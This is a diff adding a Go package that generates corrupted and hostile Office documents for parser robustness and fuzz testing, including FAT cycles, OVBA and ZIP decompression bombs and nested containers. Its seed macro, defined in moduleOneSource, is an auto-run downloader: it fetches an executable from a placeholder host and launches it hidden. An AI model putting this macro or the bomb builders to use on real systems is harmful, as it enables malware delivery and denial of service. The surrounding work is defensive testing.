@@ -1,0 +1,336 @@
+// Package faultinject builds hostile Office documents for robustness
+// testing: structurally truncated files, bit-flipped files, compound files
+// with FAT cycles, [MS-OVBA] decompression bombs, ZIP (DEFLATE) bombs and
+// partially corrupted multi-module projects.
+//
+// Every generator starts from a structurally valid document produced by
+// the repo's own writers (cfb.Builder, ovba.Project.WriteTo, ooxml.Write)
+// and applies one surgical mutation, so each case exercises a specific
+// parser defense rather than random noise. The corruption-matrix tests and
+// the fuzz corpora both feed from here.
+package faultinject
+
+import (
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"math/rand"
+
+	"repro/internal/cfb"
+	"repro/internal/ooxml"
+	"repro/internal/ovba"
+)
+
+// Case is one hostile document with a descriptive name.
+type Case struct {
+	// Name identifies the mutation class and variant, e.g. "fat-cycle" or
+	// "truncate@512".
+	Name string
+	// Data is the mutated document.
+	Data []byte
+}
+
+// Module sources for the valid seed documents. Both clear the paper's
+// 150-byte significance threshold so their verdicts are observable.
+const (
+	moduleOneSource = `Sub AutoOpen()
+    Dim target As String
+    Dim payload As String
+    target = "http://example.test/stage2.exe"
+    payload = Environ("TEMP") & "\update.exe"
+    URLDownloadToFile 0, target, payload, 0, 0
+    Shell payload, vbHide
+End Sub
+`
+	moduleTwoSource = `Sub Document_Close()
+    Dim k As Integer
+    Dim acc As String
+    For k = 1 To 32
+        acc = acc & Chr(64 + (k Mod 26))
+    Next k
+    Call MsgBox("checksum " & acc, vbOKOnly, "report")
+End Sub
+`
+)
+
+// ValidDoc builds a structurally valid OLE document (Word .doc layout,
+// project under the "Macros" storage) with two significant modules — the
+// uncorrupted baseline every mutation starts from.
+func ValidDoc() ([]byte, error) {
+	p := &ovba.Project{Name: "Injected", Modules: []ovba.Module{
+		{Name: "Module1", Source: moduleOneSource},
+		{Name: "Module2", Source: moduleTwoSource},
+	}}
+	b := cfb.NewBuilder()
+	if err := p.WriteTo(b, "Macros"); err != nil {
+		return nil, err
+	}
+	return b.Bytes()
+}
+
+// ValidOOXML builds a structurally valid .docm wrapping the same project
+// as ValidDoc in a vbaProject.bin part.
+func ValidOOXML() ([]byte, error) {
+	p := &ovba.Project{Name: "Injected", Modules: []ovba.Module{
+		{Name: "Module1", Source: moduleOneSource},
+		{Name: "Module2", Source: moduleTwoSource},
+	}}
+	b := cfb.NewBuilder()
+	if err := p.WriteTo(b, ""); err != nil {
+		return nil, err
+	}
+	vbaBin, err := b.Bytes()
+	if err != nil {
+		return nil, err
+	}
+	return ooxml.Write(ooxml.DocWord, vbaBin, 0)
+}
+
+const sectorSize = 512 // cfb.Builder emits v3 compound files
+
+// Truncations cuts doc at structural boundaries: inside the header, at the
+// header/sector seam, at sector boundaries through the body, and one byte
+// short of the end. These land exactly where length validation is easiest
+// to get wrong.
+func Truncations(doc []byte) []Case {
+	cuts := []int{0, 8, 76, sectorSize - 1, sectorSize, sectorSize + 1}
+	for off := 2 * sectorSize; off < len(doc); off += 4 * sectorSize {
+		cuts = append(cuts, off)
+	}
+	if len(doc) > 1 {
+		cuts = append(cuts, len(doc)-1)
+	}
+	var out []Case
+	for _, c := range cuts {
+		if c < 0 || c >= len(doc) {
+			continue
+		}
+		out = append(out, Case{
+			Name: fmt.Sprintf("truncate@%d", c),
+			Data: append([]byte(nil), doc[:c]...),
+		})
+	}
+	return out
+}
+
+// BitFlips produces n variants of doc with 1-8 random byte corruptions
+// each, deterministically from seed.
+func BitFlips(doc []byte, seed int64, n int) []Case {
+	rng := rand.New(rand.NewSource(seed))
+	out := make([]Case, 0, n)
+	for i := 0; i < n; i++ {
+		mutated := append([]byte(nil), doc...)
+		for k := 0; k < 1+rng.Intn(8); k++ {
+			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
+		}
+		out = append(out, Case{Name: fmt.Sprintf("bitflip#%d", i), Data: mutated})
+	}
+	return out
+}
+
+// FATCycle rewrites every FAT entry of a v3 compound file to point at its
+// own sector, so any chain walk (directory, stream, miniFAT) loops
+// immediately. Detecting this requires the reader's visited-set or
+// step-count defense — a length check cannot catch it.
+func FATCycle(doc []byte) (Case, error) {
+	if len(doc) < sectorSize {
+		return Case{}, fmt.Errorf("faultinject: doc shorter than a header")
+	}
+	mutated := append([]byte(nil), doc...)
+	// Header DIFAT[0] at offset 76 names the first FAT sector.
+	fatSector := binary.LittleEndian.Uint32(mutated[76:])
+	body := (int(fatSector) + 1) * sectorSize
+	if body+sectorSize > len(mutated) {
+		return Case{}, fmt.Errorf("faultinject: FAT sector %d out of range", fatSector)
+	}
+	for i := 0; i < sectorSize/4; i++ {
+		binary.LittleEndian.PutUint32(mutated[body+4*i:], uint32(i))
+	}
+	return Case{Name: "fat-cycle", Data: mutated}, nil
+}
+
+// DecompressionBomb builds an OLE document whose module stream is an
+// [MS-OVBA] container abusing maximum-length copy tokens: each ~14-byte
+// chunk expands to ~4KB (about 290:1), so the whole stream decompresses to
+// roughly 290 times the document size. The bomb replaces the original
+// compressed module in place, byte-for-byte, so the compound file around
+// it stays fully valid.
+func DecompressionBomb() (Case, error) {
+	// A long incompressible-free source makes the compressed stream big
+	// enough to hold a meaningful bomb (~16KB compressed -> ~4.7MB out).
+	// The bomb is the project's ONLY module so the degraded-mode reader
+	// cannot rescue the document: the loss is total and the surfaced error
+	// carries the budget-exhaustion class (quarantine disposition).
+	// LCG noise over a 90-symbol printable alphabet: 3-byte LZ77 matches
+	// are rare, so Compress emits nearly raw chunks and the stream stays
+	// ~16KB.
+	src := make([]byte, 16*1024)
+	x := uint32(0x2545F491)
+	for i := range src {
+		x = x*1664525 + 1013904223
+		src[i] = byte(33 + (x>>16)%90)
+	}
+	p := &ovba.Project{Name: "Bomb", Modules: []ovba.Module{
+		{Name: "Module1", Source: string(src)},
+	}}
+	b := cfb.NewBuilder()
+	if err := p.WriteTo(b, "Macros"); err != nil {
+		return Case{}, err
+	}
+	doc, err := b.Bytes()
+	if err != nil {
+		return Case{}, err
+	}
+	comp := ovba.Compress(src)
+	off := bytes.Index(doc, comp)
+	if off < 0 {
+		return Case{}, fmt.Errorf("faultinject: compressed module stream not found")
+	}
+	bomb, err := BombContainer(len(comp))
+	if err != nil {
+		return Case{}, err
+	}
+	copy(doc[off:], bomb)
+	return Case{Name: "ovba-bomb", Data: doc}, nil
+}
+
+// BombContainer emits a syntactically valid [MS-OVBA] CompressedContainer
+// of exactly n bytes maximizing decompressed output (~290:1). Chunk
+// layout: 8 literals to seed the window, then one copy token at offset 1
+// with the maximum 4098-byte length — ~14 container bytes per ~4106
+// output bytes. Useful directly as a fuzz seed for decompressor budgets.
+func BombContainer(n int) ([]byte, error) {
+	const chunkLen = 14 // 2 header + 1 flag + 8 literals + 1 flag + 2 token
+	if n < 1+chunkLen+6 {
+		return nil, fmt.Errorf("faultinject: container length %d too small for a bomb", n)
+	}
+	out := make([]byte, 0, n)
+	out = append(out, 0x01) // container signature
+	rem := n - 1
+	// Reserve at least 6 bytes for the padding chunk so its body can
+	// always be expressed as flag groups of literals.
+	for rem >= chunkLen+6 {
+		out = append(out, bombChunk()...)
+		rem -= chunkLen
+	}
+	out = append(out, literalChunk(rem)...)
+	return out, nil
+}
+
+// bombChunk is one maximal-expansion compressed chunk (14 bytes -> 4106).
+func bombChunk() []byte {
+	body := make([]byte, 0, 12)
+	body = append(body, 0x00)                                   // flag byte: 8 literals
+	body = append(body, 'B', 'O', 'O', 'M', 'B', 'O', 'O', 'M') // window seed
+	token := uint16(4098-3) | uint16(0)<<12                     // offset 1, max length
+	body = append(body, 0x01, byte(token), byte(token>>8))      // flag: 1 copy token
+	header := uint16(len(body)+2-3) | uint16(0x3)<<12 | 0x8000  // compressed chunk
+	return append([]byte{byte(header), byte(header >> 8)}, body...)
+}
+
+// literalChunk emits a compressed chunk of exactly total bytes (total >= 6)
+// whose body is flag-grouped literal padding.
+func literalChunk(total int) []byte {
+	body := make([]byte, 0, total-2)
+	rem := total - 2
+	for rem > 0 {
+		k := rem - 1 // literals in this flag group
+		if k > 8 {
+			k = 8
+		}
+		body = append(body, 0x00)
+		for i := 0; i < k; i++ {
+			body = append(body, 'P')
+		}
+		rem -= 1 + k
+	}
+	header := uint16(len(body)+2-3) | uint16(0x3)<<12 | 0x8000
+	return append([]byte{byte(header), byte(header >> 8)}, body...)
+}
+
+// ZipBomb builds an OOXML document whose vbaProject.bin part inflates to
+// decompressedSize bytes of zeros — DEFLATE's best case, >1000:1 — to
+// attack the ZIP extraction stage rather than the OVBA codec.
+func ZipBomb(decompressedSize int) (Case, error) {
+	doc, err := ooxml.Write(ooxml.DocWord, make([]byte, decompressedSize), 0)
+	if err != nil {
+		return Case{}, err
+	}
+	return Case{Name: fmt.Sprintf("zip-bomb-%dMiB", decompressedSize>>20), Data: doc}, nil
+}
+
+// NestingBomb wraps an OOXML document inside the vbaProject.bin part of
+// another OOXML document, depth times: the inner payload is a container
+// where an OLE compound file belongs.
+func NestingBomb(depth int) (Case, error) {
+	inner, err := ValidOOXML()
+	if err != nil {
+		return Case{}, err
+	}
+	for i := 0; i < depth; i++ {
+		inner, err = ooxml.Write(ooxml.DocWord, inner, 0)
+		if err != nil {
+			return Case{}, err
+		}
+	}
+	return Case{Name: fmt.Sprintf("nesting-bomb-%d", depth), Data: inner}, nil
+}
+
+// PartialCorruption builds a two-module document where exactly one
+// module's compressed stream is destroyed (its container signature byte is
+// stomped). A degraded-mode extractor must still score the surviving
+// module and report the loss.
+func PartialCorruption() (Case, error) {
+	doc, err := ValidDoc()
+	if err != nil {
+		return Case{}, err
+	}
+	comp := ovba.Compress([]byte(moduleTwoSource))
+	off := bytes.Index(doc, comp)
+	if off < 0 {
+		return Case{}, fmt.Errorf("faultinject: module 2 stream not found")
+	}
+	doc[off] = 0xEE // was 0x01, the container signature
+	return Case{Name: "partial-module-corruption", Data: doc}, nil
+}
+
+// All assembles the complete corruption matrix from a deterministic seed:
+// every mutation class applied to the OLE and OOXML baselines. Bit-flip
+// sample counts are kept modest so the matrix stays fast enough to run
+// under -race in CI.
+func All(seed int64) ([]Case, error) {
+	ole, err := ValidDoc()
+	if err != nil {
+		return nil, err
+	}
+	docm, err := ValidOOXML()
+	if err != nil {
+		return nil, err
+	}
+	cases := []Case{
+		{Name: "valid-ole", Data: ole},
+		{Name: "valid-ooxml", Data: docm},
+	}
+	cases = append(cases, Truncations(ole)...)
+	for _, c := range Truncations(docm) {
+		cases = append(cases, Case{Name: "ooxml-" + c.Name, Data: c.Data})
+	}
+	cases = append(cases, BitFlips(ole, seed, 40)...)
+	for _, c := range BitFlips(docm, seed+1, 20) {
+		cases = append(cases, Case{Name: "ooxml-" + c.Name, Data: c.Data})
+	}
+	for _, gen := range []func() (Case, error){
+		func() (Case, error) { return FATCycle(ole) },
+		DecompressionBomb,
+		func() (Case, error) { return ZipBomb(8 << 20) },
+		func() (Case, error) { return NestingBomb(3) },
+		PartialCorruption,
+	} {
+		c, err := gen()
+		if err != nil {
+			return nil, err
+		}
+		cases = append(cases, c)
+	}
+	return cases, nil
+}
